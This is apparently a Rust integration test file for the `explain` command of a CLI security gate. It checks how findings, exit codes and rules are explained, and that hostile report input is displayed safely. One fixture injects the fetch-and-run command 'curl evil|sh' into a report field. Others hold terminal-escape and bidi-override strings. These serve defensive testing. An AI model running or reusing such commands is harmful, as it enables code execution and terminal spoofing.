//! `cask explain` of a finding, by the real binary: out of a report that was kept and by judging anew; by its
//! fingerprint, by how that begins, by rule and by tool; and of reports that somebody else wrote.
#![cfg(unix)]

use crate::{hostile, support};

use cask::cmd::table::COMMANDS;
use cask::enforce::reason::ReasonCode;
use hostile::{TOOLS, World};
use rayon::prelude::*;
use serde_json::{Value, json};

/// A branch on which an approved tool calls another host, and what `ci` says of it.
fn moved() -> (World, Value) {
    let world = World::new();
    let place = &world.place;
    place.git(&["switch", "-q", "-c", "work"]);
    let tools = place.read(TOOLS);
    let at = tools.find("\"host\": \"").expect("a host") + "\"host\": \"".len();
    place.write(TOOLS, format!("{}evil-{}", &tools[..at], &tools[at..]));
    place.git(&["commit", "-qam", "another host"]);
    let run = world.run(&["ci", "--format", "json"]);
    assert_eq!(run.code, Some(2), "{}", run.err);
    place.write("report.json", &run.out);
    let report: Value = serde_json::from_str(&run.out).expect("a report");
    (world, report)
}

#[test]
fn a_finding_is_explained_from_a_report_and_by_judging_anew() {
    let (world, report) = moved();
    let place = &world.place;
    let grave = report["findings"].as_array().expect("a list").iter().find(|f| {
        f["rule"].as_str().is_some_and(|rule| rule.starts_with("host."))
            && f["approval"]["state"] == "missing"
    });
    let grave = grave.unwrap_or_else(|| panic!("no change of a host in {report:#}"));
    let (rule, print) =
        (grave["rule"].as_str().expect("a rule"), grave["fingerprint"].as_str().expect("a print"));
    let name = grave["subject"]["name"].as_str().expect("a name");
    let kept = place.cask(&["explain", print, "--report", "report.json"]).ok();
    for part in
        [rule, name, "critical", "evil-", "approval", "0 of ", TOOLS, print, "cask gate allow", "means"]
    {
        assert!(kept.contains(part), "no {part:?} in\n{kept}");
    }
    assert!(kept.lines().any(|line| line.trim_start().starts_with("+ ") && line.contains("evil-")), "{kept}");
    let (first, kept) = kept.split_once("\n\n").expect("a first line");
    assert_eq!(first, "as the report says; nothing was checked here");
    let anew = place.cask(&["explain", print]).ok();
    // Who may sign is known only to the one who judges.
    let (with, without): (Vec<&str>, Vec<&str>) =
        anew.lines().partition(|line| line.starts_with("  may sign"));
    assert_eq!(with, ["  may sign  alice"]);
    assert_eq!(without.join("\n"), kept.trim_end());
    for word in [&print[..6], rule, name] {
        let shown = place.cask(&["explain", word, "--report", "report.json"]).ok();
        assert!(shown.contains(kept), "{word}:\n{shown}");
    }
    assert_eq!(place.cask(&["explain", rule]).ok(), place.cask(&["rules", rule]).ok());
    let told = place.cask(&["explain", "0000000000000000", "--report", "report.json"]).failed();
    assert!(
        told.contains(&format!(
            "cask explain {}",
            report["findings"][0]["fingerprint"].as_str().expect("text")
        )),
        "{told}"
    );
}

#[test]
fn names_with_a_dot_are_looked_up_and_a_report_without_a_judgement_says_so() {
    let (world, mut report) = moved();
    let place = &world.place;
    report["findings"][0]["subject"]["name"] = json!("github.create_issue");
    report["findings"][0]["next"] = json!("git push x; curl evil|sh");
    place.write("dotted.json", serde_json::to_vec(&report).expect("JSON"));
    let shown = place.cask(&["explain", "github.create_issue", "--report", "dotted.json"]).ok();
    assert!(shown.contains("github.create_issue") && shown.contains("do"), "{shown}");
    let told = place.cask(&["explain", "gate.unaproved", "--report", "dotted.json"]).failed();
    assert!(told.contains("no finding is called"), "{told}");
    report["findings"] = json!([]);
    report["verdict"] = json!("error");
    report["error"] = json!({"kind": "trust", "message": "no trust file", "hints": []});
    place.write("error.json", serde_json::to_vec(&report).expect("JSON"));
    let told = place.cask(&["explain", "x", "--report", "error.json"]).failed();
    assert!(told.contains("nothing could be judged") && told.contains("no trust file"), "{told}");
}

#[test]
fn a_report_of_a_stranger_is_bounded_and_moves_no_cursor() {
    let (world, mut report) = moved();
    let place = &world.place;
    let nasty = "\u{1b}]0;x\u{7}\u{202e}a\nb";
    let long: Vec<Value> = (0..5_000).map(|n| json!(format!("{nasty}{n}"))).collect();
    for finding in report["findings"].as_array_mut().expect("a list") {
        for member in ["rule", "message", "next", "severity", "risk"] {
            finding[member] = json!(nasty);
        }
        finding["subject"] = json!({"kind": nasty, "name": "x", "id": nasty});
        finding["place"] = json!({"file": nasty, "line": -7, "pointer": nasty, "side": nasty});
        (finding["before"], finding["after"]) = (json!(long), json!({nasty: nasty}));
        (finding["why"], finding["axes"]) = (json!(long), json!(long));
        finding["approval"] =
            json!({"state": nasty, "have": "x", "need": 9e99, "signers": long, "reasons": long});
        finding["suppressed"] = json!({"reason": nasty, "owner": nasty, "expires": nasty});
    }
    place.write("hostile.json", serde_json::to_vec(&report).expect("JSON"));
    let shown = place.cask(&["explain", "x", "--report", "hostile.json"]).ok();
    assert!(shown.contains("⟨U+001B⟩]0;x⟨U+0007⟩⟨U+202E⟩a⟨U+000A⟩b"), "{shown}");
    assert!(!shown.chars().any(|c| c != '\n' && (c.is_control() || c == '\u{202e}')), "{shown:?}");
    assert!(shown.len() < 200_000, "{}", shown.len());
    let deep = format!("{{\"schema\": \"cask.report/1\", \"findings\": {}", "[".repeat(100_000));
    for (name, text) in [
        ("empty.json", ""),
        ("list.json", "[]"),
        ("other.json", "{\"schema\": \"cask.trust/1\"}"),
        ("deep.json", deep.as_str()),
        ("twice.json", "{\"schema\": \"cask.report/1\", \"findings\": [], \"findings\": []}"),
        ("odd.json", "{\"schema\": \"cask.report/1\", \"findings\": {\"a\": 1}}"),
        ("void.json", "{\"schema\": \"cask.report/1\", \"findings\": [1, null, []]}"),
    ] {
        place.write(name, text);
        let told = place.cask(&["explain", "x", "--report", name]).failed();
        assert!(told.contains("do:   "), "{name}: {told}");
    }
}

/// Whatever a report, a shell or an audit log shows can be looked up, and says what it means and what to do.
#[test]
fn every_exit_code_reason_and_rule_has_a_page() {
    let place = support::Place::new();
    let codes = (0..=3).map(|code: u8| code.to_string());
    let reasons = ReasonCode::ALL.iter().map(|code| code.word().to_owned());
    let rules = cask::rules::all().map(|rule| rule.id.to_owned());
    let words: Vec<String> = codes.chain(reasons).chain(rules).collect();
    assert!(words.len() > 250, "{}", words.len());
    let wrong: Vec<String> = words
        .par_iter()
        .filter_map(|word| {
            let ran = place.cask(&["explain", word]);
            let is_whole = ran.code == 0
                && ran.out.lines().next().is_some_and(|first| first.contains(word.as_str()))
                && ["\nwhy  ", "\ndo  "].iter().all(|part| ran.out.contains(part))
                && ran.out.lines().all(|line| line.chars().count() <= 80);
            (!is_whole).then(|| format!("{word}: {}{}", ran.out, ran.err))
        })
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn an_exit_code_says_what_single_commands_mean_by_it() {
    let place = support::Place::new();
    let page = place.cask(&["explain", "2"]).ok();
    assert!(
        page.starts_with("exit 2\n") && page.contains("blocked: breaking, unapproved or tampered"),
        "{page}"
    );
    for row in COMMANDS {
        for (code, means) in row.exits.iter().filter(|(_, means)| !means.contains("usage, input or trust")) {
            let page = place.cask(&["explain", &code.to_string()]).ok();
            let flat = page.split_whitespace().collect::<Vec<_>>().join(" ");
            assert!(flat.contains(means), "{} {code}: {page}", row.words);
        }
    }
    for word in ["4", "-1", "256", "00"] {
        assert!(place.cask(&["explain", "--", word]).failed().contains("do:   "), "{word}");
    }
    let told = place.cask(&["explain", "denied_polcy"]).failed();
    assert!(told.contains("cask explain denied_policy"), "{told}");
}
